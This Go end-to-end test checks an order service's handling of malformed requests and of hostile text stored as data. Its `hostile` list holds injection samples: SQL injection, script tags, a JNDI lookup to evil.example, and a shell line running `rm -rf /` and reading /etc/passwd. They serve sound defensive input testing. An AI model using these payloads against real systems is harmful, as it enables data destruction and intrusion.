package e2e

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/require"

	"github.com/orderstream/orderstream/pkg/accounting"
	"github.com/orderstream/orderstream/pkg/eventstore"
)

// Strings that look like attacks on a SQL/CQL, HTML, template, shell or
// log layer. Stored, they must come back as the same text.
var hostile = []string{
	`'; DROP TABLE event_store; --`,
	`" OR 1=1 --`,
	`<script>alert("x")</script>`,
	`{{7*7}} ${7*7} #{7*7}`,
	`${jndi:ldap://evil.example/a}`,
	`$(rm -rf /) ; rm -rf / | cat /etc/passwd`,
	"line one\nline two\r\n\"quoted\" \\ back",
	`../../../../etc/passwd`,
	`%00%27%22 ' " ; --`,
	`Ünïcödé ✓ 注文 🚚`,
}

// Bad input at the edges of the system: malformed JSON, huge bodies,
// invalid ids, unknown fields and hostile strings. Each bad request is a
// clear 4xx problem and changes nothing; hostile text in a valid command
// is stored as data and read back unchanged.
func TestBadInput(t *testing.T) {
	s := Start(t, Options{})
	c := NewClient(t)
	cmd, qry := s.URL("command-service"), s.URL("query-service")
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	customer, _ := c.Command("POST", cmd+"/v1/customers", map[string]any{"name": "Grace Hopper", "email": "grace@example.org"})
	orderID, _ := c.Command("POST", cmd+"/v1/orders", map[string]any{"customer_id": customer,
		"items": []map[string]any{{"product_id": "cobol", "quantity": 1, "unit_price": map[string]any{"amount_minor": 100, "currency": "USD"}}}})
	events := func() int {
		var n int64
		require.NoError(t, s.Store.Heads(ctx, func(h eventstore.Head) error {
			n += h.Current
			return nil
		}))
		return int(n)
	}
	before := events()

	huge := `{"name":"` + strings.Repeat("a", 8<<20) + `","email":"big@example.org"}`
	bad := []struct {
		name, method, path string
		body               any
		status             []int
	}{
		{"malformed JSON", "POST", "/v1/customers", `{"name": "x", "email":`, []int{400}},
		{"not JSON at all", "POST", "/v1/customers", `name=x&email=y`, []int{400, 415}},
		{"JSON of the wrong shape", "POST", "/v1/customers", `["name", "email"]`, []int{400}},
		{"wrong type", "POST", "/v1/orders", `{"customer_id": "` + customer + `", "items": [{"product_id": "p", "quantity": "two", "unit_price": {"amount_minor": 1, "currency": "USD"}}]}`, []int{400}},
		{"huge body", "POST", "/v1/customers", huge, []int{413}},
		{"unknown field", "POST", "/v1/customers", `{"name": "x", "email": "x@example.org", "is_admin": true}`, []int{400}},
		{"invalid id in the path", "POST", "/v1/orders/not-a-uuid/confirm", nil, []int{400}},
		{"injection in the path id", "POST", "/v1/orders/1'%20OR%20'1'='1/confirm", nil, []int{400}},
		{"invalid customer id in the body", "POST", "/v1/orders", `{"customer_id": "'; DROP TABLE x; --", "items": [{"product_id": "p", "quantity": 1, "unit_price": {"amount_minor": 1, "currency": "USD"}}]}`, []int{400}},
		{"missing required field", "POST", "/v1/customers", `{"name": "x"}`, []int{400, 422}},
		{"too long", "POST", "/v1/customers", `{"name": "` + strings.Repeat("n", 201) + `", "email": "x@example.org"}`, []int{400, 422}},
		{"bad email", "POST", "/v1/customers", `{"name": "x", "email": "<script>@@"}`, []int{400, 422}},
		{"bad currency", "POST", "/v1/orders", `{"customer_id": "` + customer + `", "items": [{"product_id": "p", "quantity": 1, "unit_price": {"amount_minor": 1, "currency": "'; --"}}]}`, []int{400, 422}},
		{"negative quantity", "POST", "/v1/orders", `{"customer_id": "` + customer + `", "items": [{"product_id": "p", "quantity": -1, "unit_price": {"amount_minor": 1, "currency": "USD"}}]}`, []int{400, 422}},
		{"unknown route", "POST", "/v1/orders/" + orderID + "/explode", nil, []int{404, 405}},
	}
	for _, b := range bad {
		t.Run(b.name, func(t *testing.T) {
			a := c.Do(b.method, cmd+b.path, b.body)
			require.Contains(t, b.status, a.Status, "body: %.300s", a.Body)
			require.Equal(t, "application/problem+json", a.Header.Get("Content-Type"), "body: %.300s", a.Body)
			require.NotEmpty(t, a.JSON(t)["detail"], "a problem says what is wrong")
		})
	}
	for _, q := range []string{
		"/v1/orders/not-a-uuid", "/v1/orders/" + orderID + "?min_version=-1", "/v1/orders/" + orderID + "?at_version=x",
		"/v1/orders?status=SHIPPED'%20OR%201=1", "/v1/customers/" + customer + "/orders?limit=100000",
		"/v1/customers/" + customer + "/orders?page_token=forged", "/v1/orders?status=CREATED&created_after=yesterday",
	} {
		a := c.Do("GET", qry+q, nil)
		require.Equal(t, http.StatusBadRequest, a.Status, "GET %s: %s", q, a.Body)
		require.Equal(t, "application/problem+json", a.Header.Get("Content-Type"))
	}
	require.Equal(t, before, events(), "a rejected request wrote an event")

	// Hostile text in every text field: a field that refuses it answers a
	// clear 4xx naming itself and stores nothing; a field that takes it
	// stores it as data and the query API returns it unchanged.
	acked := []accounting.Acked{{AggregateID: mustUUID(t, customer), Version: 1}, {AggregateID: mustUUID(t, orderID), Version: 1}}
	try := func(method, path string, body any) (string, int64, bool) {
		t.Helper()
		a := c.Do(method, cmd+path, body)
		if a.Status >= 400 && a.Status < 500 {
			require.Equal(t, "application/problem+json", a.Header.Get("Content-Type"))
			m := a.JSON(t)
			require.NotEmpty(t, m["field"], "a refused text names its field: %s", a.Body)
			require.Equal(t, before, events(), "a refused command wrote an event")
			return "", 0, false
		}
		require.Contains(t, []int{200, 201}, a.Status, "%s %s: %s", method, path, a.Body)
		m := a.JSON(t)
		id, v := m["id"].(string), int64(m["version"].(float64))
		acked = append(acked, accounting.Acked{AggregateID: mustUUID(t, id), Version: v})
		before++
		return id, v, true
	}
	stored := 0
	for _, h := range hostile {
		id, _, ok := try("POST", "/v1/customers", map[string]any{"name": h, "email": "someone@example.org"})
		if strings.ContainsFunc(h, unicode.IsControl) {
			require.False(t, ok, "a name with control characters is refused")
			continue
		}
		require.True(t, ok, "a name is free text: %q must be accepted", h)
		addr := map[string]any{"label": trunc(h, 40), "line1": h, "line2": h, "city": trunc(h, 100), "region": trunc(h, 100), "postal_code": trunc(h, 20), "country": "GB"}
		if _, _, ok := try("POST", "/v1/customers/"+id+"/addresses", addr); !ok {
			addr = map[string]any{"line1": h, "line2": h, "city": "London", "postal_code": "SW1A 1AA", "country": "GB"}
			_, _, ok = try("POST", "/v1/customers/"+id+"/addresses", addr)
			require.True(t, ok, "address lines are free text: %q must be accepted", h)
		}
		product := trunc(h, 100)
		o, _, ok := try("POST", "/v1/orders", map[string]any{"customer_id": id,
			"items": []map[string]any{{"product_id": product, "quantity": 1, "unit_price": map[string]any{"amount_minor": 1, "currency": "EUR"}}}})
		if !ok {
			product = "sku-1"
			o, _, ok = try("POST", "/v1/orders", map[string]any{"customer_id": id,
				"items": []map[string]any{{"product_id": product, "quantity": 1, "unit_price": map[string]any{"amount_minor": 1, "currency": "EUR"}}}})
			require.True(t, ok)
		} else {
			stored++
		}
		_, _, ok = try("POST", "/v1/orders/"+o+"/cancel", map[string]any{"reason": h, "cancelled_by": "customer"})
		require.True(t, ok, "a cancellation reason is free text: %q must be accepted", h)

		got := c.Do("GET", qry+"/v1/customers/"+id+"?min_version=2", nil)
		require.Equal(t, http.StatusOK, got.Status, "%s", got.Body)
		m := got.JSON(t)
		require.Equal(t, h, m["name"])
		a := m["addresses"].([]any)[0].(map[string]any)
		for k, v := range addr {
			require.Equal(t, v, a[k], "address %s", k)
		}
		og := c.Do("GET", qry+"/v1/orders/"+o+"?min_version=2", nil)
		require.Equal(t, http.StatusOK, og.Status, "%s", og.Body)
		require.Equal(t, product, og.JSON(t)["items"].([]any)[0].(map[string]any)["product_id"])
		hist := c.Do("GET", qry+"/v1/orders/"+o+"/events", nil)
		require.Equal(t, http.StatusOK, hist.Status)
		require.Contains(t, string(hist.Body), mustJSON(t, h), "the cancellation reason is in the history as given")
	}
	t.Logf("%d of %d hostile product ids were valid product ids and stored", stored, len(hostile))
	r := s.Account(ctx, acked, time.Minute)
	t.Logf("accounting:\n%s", r)
}

func mustJSON(t testing.TB, s string) string {
	b, err := json.Marshal(s)
	require.NoError(t, err)
	return strings.Trim(string(b), `"`)
}

// trunc cuts s to at most n runes (the API limits some fields).
func trunc(s string, n int) string {
	r := []rune(s)
	return string(r[:min(n, len(r))])
}
